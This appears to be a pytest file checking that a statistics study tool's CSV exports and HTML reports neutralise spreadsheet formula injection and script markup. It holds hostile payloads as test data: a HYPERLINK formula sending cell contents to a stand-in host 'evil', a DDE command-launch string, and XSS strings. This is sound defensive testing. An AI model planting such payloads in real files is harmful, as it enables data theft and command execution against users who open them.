"""Attack: names that a spreadsheet runs, or that a page shows as its own markup."""

import csv

import pandas as pd
import pytest
from typer.testing import CliRunner

import tests.study.world as worlds
from predbayes.errors import DataError
from predbayes_study.cli.app import app
from predbayes_study.kit.kit import Kit, Labels
from predbayes_study.plan.schema import Plan
from predbayes_study.trust.signing import SigningKey
from tests.study.commands import predbayes
from tests.study.invented import DRAFT, survey_of, table

LINK = '=HYPERLINK("http://evil/?"&A1,"x")'
CALL = "@SUM(1+1)*cmd|' /C calc'!A0"
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'</style></svg>{{7*7}}"
STARTS = tuple("=+-@\t\r")


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A study whose classes, one column, its words and all free texts are attacks."""
    quoted = MARKUP.replace('"', '\\"')
    frame, common = worlds._frame, worlds._COMMON
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(worlds, "_frame", lambda *a, **k: attacked(frame(*a, **k)))
        for old in ('unit = "mm"', 'source = "drawn"', 'licence = "CC0"'):
            common = common.replace(old, f'{old.split(" = ")[0]} = "{quoted}"')
        words = 'type = "category", categories = ["+1+cmd", "x;=1+1", "-1"]'
        common = common.replace("[reference]", f'"=A1" = {{ {words} }}\n[reference]', 1)
        patch.setattr(
            worlds,
            "_COMMON",
            common.replace("\n[columns]", f'\ndescription = "{quoted}"\n[columns]', 1),
        )
        classes = "[" + ", ".join(f"'''{name}'''" for name in (LINK, CALL, "blue")) + "]"
        patch.setattr(
            worlds, "_CLASSES", worlds._CLASSES.replace('["red", "green", "blue"]', classes)
        )
        yield worlds.make_world(tmp_path_factory.mktemp("injection"))


def attacked(frame):
    frame["kind"] = frame["kind"].replace({"red": LINK, "green": CALL})
    frame["=A1"] = [("+1+cmd", "x;=1+1", "-1", "@other")[row % 4] for row in range(len(frame))]
    return frame


@pytest.fixture(scope="module")
def result(world):
    study = world.begin(sites=("Alpha", "Beta"), added=("Alpha", "Beta"))
    study.finish()
    return study.result_folder(1)


def cells(path):
    """Cells as a spreadsheet sees them, whichever mark it takes for a separator."""
    text = path.read_text()
    for mark in ",;\t|":
        for row in csv.reader(text.splitlines(), delimiter=mark):
            yield from row


def assert_no_formula(path):
    for cell in cells(path):
        begin = cell.partition(",")[0]  # a number, also where the whole line is one cell
        assert not cell.startswith(STARTS) or is_number(begin), cell


def is_number(cell):
    try:
        return float(cell) is not None
    except ValueError:
        return False


def test_predictions_hold_no_formula_and_every_number(world, result, tmp_path):
    rows = pd.DataFrame({"x": ["-1.5", "20"], "y": ["2", "-40"], "=A1": ["-1", "+1+cmd"]})
    rows["id"] = ["-2+3+cmd", "+41"]
    rows.to_csv(tmp_path / "rows.csv", index=False)
    out = tmp_path / "predictions.csv"
    command = ["predict", str(result), str(tmp_path / "rows.csv"), "--out", str(out)]
    done = CliRunner().invoke(app, [*command, "--keep", "id", "--keep", "x", "--keep", "=A1"])
    assert done.exit_code == 0, done.output
    assert_no_formula(out)
    table = pd.read_csv(out, dtype=str)
    assert list(table["x"]) == ["-1.5", "20"]
    assert list(table["id"]) == ["'-2+3+cmd", "+41"]
    assert set(table["predicted"]) <= {f"'{LINK}", f"'{CALL}", "blue"}


def test_reference_rows_hold_no_formula_and_are_read_back(world):
    assert_no_formula(world.kit.folder / "reference.csv")
    kit = Kit.load(world.kit.folder)
    assert bool((kit.inputs == world.kit.inputs).all())
    assert len(Labels.load(world.labels_path, kit).reference.targets)
    coded = kit.inputs[:, -4:]  # three words and other ones
    assert coded.sum(0).min() > 0


FORMULAS = (LINK[:30], "+1+cmd", "-ve", "@sum(a1)", "x;=1+1", "＝1+1", "'=1")
WORDS = ("-", "+", "++", "+/-", "-1", "+2.5", "a-b")


@pytest.mark.parametrize("word", [*FORMULAS, *WORDS])
def test_no_survey_brings_a_formula_into_a_plan_and_its_reference_rows(tmp_path, word):
    """A frequent word of a site is proposed as a category, and is drawn as a cell."""
    (tmp_path / "draft.toml").write_text(DRAFT)
    draft = Plan.loads(DRAFT)
    frames = {name: table(name) for name in ("Graz", "Brno", "Split")}
    frames["Split"].loc[: len(frames["Split"]) // 2, "smoking"] = word
    keys = {name: SigningKey.generate() for name in frames}
    told = [
        survey_of(frames[name], tmp_path, name, of=draft, key=keys[name])
        for name in ("Graz", "Brno")
    ]
    if word in FORMULAS:
        with pytest.raises(DataError, match=r"^`smoking`: .* Map it to another with `recode`"):
            survey_of(frames["Split"], tmp_path, "Split", of=draft)
        frames["Split"].loc[frames["Split"]["smoking"] == word, "smoking"] = "mapped"
    told.append(survey_of(frames["Split"], tmp_path, "Split", of=draft, key=keys["Split"]))
    content = told[-1].file(keys["Split"])
    if word in FORMULAS:  # as a site writes it with software of its own
        of = told[-1].columns["smoking"]
        evil = of.model_copy(update={"unlisted": {word: of.unlisted["mapped"]}})
        columns = {**told[-1].columns, "smoking": evil}
        content = told[-1].model_copy(update={"columns": columns}).file(keys["Split"])
    for one in told:
        (tmp_path / f"{one.site}.survey").write_bytes(one.file(keys[one.site]))
    (tmp_path / "Split.survey").write_bytes(content)
    surveys = [f"{name}.survey" for name in frames]
    options = ("--out", "plan.toml", "--reference", "300")
    done = predbayes("plan", "merge", "draft.toml", *surveys, *options, cwd=tmp_path)
    if word in FORMULAS:
        assert done.code == 2
        assert "a word is a formula; its site recodes it" in done.err
        assert not (tmp_path / "plan-reference.csv").exists()
    else:
        assert done.code == 0, done.err
        drawn = pd.read_csv(tmp_path / "plan-reference.csv", dtype=str)
        assert word in set(drawn["smoking"])


def test_pages_show_markup_as_text(result):
    for page in ("report.html", "report-public.html", "model-card.html"):
        text = (result / page).read_text()
        assert "<script>alert" not in text
        assert "<img src=x" not in text
        assert text.count("</style>") == 1
